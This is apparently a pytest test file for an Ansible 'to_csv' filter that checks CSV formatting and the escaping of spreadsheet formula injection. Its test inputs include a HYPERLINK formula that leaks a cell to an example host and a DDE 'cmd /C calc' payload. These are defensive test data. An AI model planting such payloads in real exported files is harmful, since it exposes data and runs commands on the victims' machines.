# Copyright: (c) 2026, vpsfleet.panels contributors
# GNU General Public License v3.0 or later (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import csv
import io
import re

import pytest
from ansible.errors import AnsibleFilterError
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.vpsfleet.panels.plugins.filter.to_csv import to_csv


def cell(value):
    """Return the text of a single cell in the file."""
    header, text = to_csv([{"a": value}], ["a"]).split("\r\n", 1)
    assert header == '"a"'
    return text.removesuffix("\r\n")


def test_rows_and_header():
    rows = [{"id": 1, "name": "web01", "more": 0}, {"id": 2, "name": "db, old", "more": 0}]
    assert to_csv(iter(rows), ["id", "name"]) == ('"id","name"\r\n"1","web01"\r\n"2","db, old"\r\n')


def test_columns_can_have_names_of_their_own():
    assert to_csv([{"msg": "x"}], {"message": "msg"}) == '"message"\r\n"x"\r\n'


def test_no_rows():
    assert to_csv([], ["id", "name"]) == '"id","name"\r\n'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, '""'),
        (True, '"true"'),
        (False, '"false"'),
        (-1, '"-1"'),
        (0.5, '"0.5"'),
        ([], '""'),
        (["cpu", "memory"], '"cpu; memory"'),
        ([None, True, 3], '"; true; 3"'),
        ('say "no"', '"say ""no"""'),
        ("two\nlines", '"two\nlines"'),
        ("Bücher 日本", '"Bücher 日本"'),
    ],
)
def test_values_are_formatted(value, expected):
    assert cell(value) == expected


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+1",
        "-2",
        "@SUM(A1)",
        "\t1",
        "\r1",
        "\n1",
        "  =1",
        "\u00a0=1",
        "\uff1d1",
        '=HYPERLINK("http://example.com?leak="&A1,"click")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_a_formula_is_quoted(value):
    (_header, (text,)) = csv.reader(io.StringIO(to_csv([{"a": value}], ["a"]), newline=""))
    assert text == f"'{value}"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (["=1", "+2"], "'=1; '+2"),
        ("a;=cmd|' /C calc'!A0", "'a;'=cmd|' /C calc'!A0"),
        (";=1", "';'=1"),
        ("\t=1", "'\t'=1"),
        ("a\t=1", "'a\t'=1"),
        ("a\n@SUM(A1)", "'a\n'@SUM(A1)"),
        ('a,"-1', "'a,\"'-1"),
        ("a|\uff1d1", "'a|'\uff1d1"),
        ("db-01; web+2", "db-01; web+2"),
    ],
)
def test_no_formula_after_a_separator(value, expected):
    (_header, (text,)) = csv.reader(io.StringIO(to_csv([{"a": value}], ["a"]), newline=""))
    assert text == expected


@given(
    st.lists(
        st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("=+-@;,|:\t\n \"'")),
        min_size=2,
        max_size=2,
    )
)
def test_any_text_survives_and_no_part_of_it_begins_like_a_formula(texts):
    rows = [dict(zip("ab", texts, strict=True))]
    # The filter drops NUL, since some Pythons cannot write it; all else must survive.
    (_header, cells) = csv.reader(io.StringIO(to_csv(rows, ["a", "b"]), newline=""))
    for text, read in zip(texts, cells, strict=True):
        assert read.replace("'", "") == text.replace("\0", "").replace("'", "")
        for part in re.split(r"[,;:|\t\r\n\v\f\x1c-\x1e\x85\u2028\u2029]", read):
            begin = re.sub(r'^[\s"]+', "", part)
            assert not begin.startswith(
                ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
            )


@pytest.mark.parametrize("rows", [["text"], [1], "text", {"a": 1}])
def test_only_dictionaries_are_accepted(rows):
    with pytest.raises(AnsibleFilterError, match="list of dictionaries"):
        to_csv(rows, ["a"])


@pytest.mark.parametrize("columns", [[], "id", None, 3])
def test_columns_are_required(columns):
    with pytest.raises(AnsibleFilterError, match="requires columns"):
        to_csv([], columns)


def test_a_row_without_a_column_is_refused():
    with pytest.raises(AnsibleFilterError, match="row 2 has no name, msg"):
        to_csv([{"id": 1, "name": "", "msg": ""}, {"id": 2}], ["id", "name", "msg"])


def test_a_dictionary_in_a_cell_is_refused():
    with pytest.raises(AnsibleFilterError, match="dictionary into a cell"):
        to_csv([{"a": {"b": 1}}], ["a"])
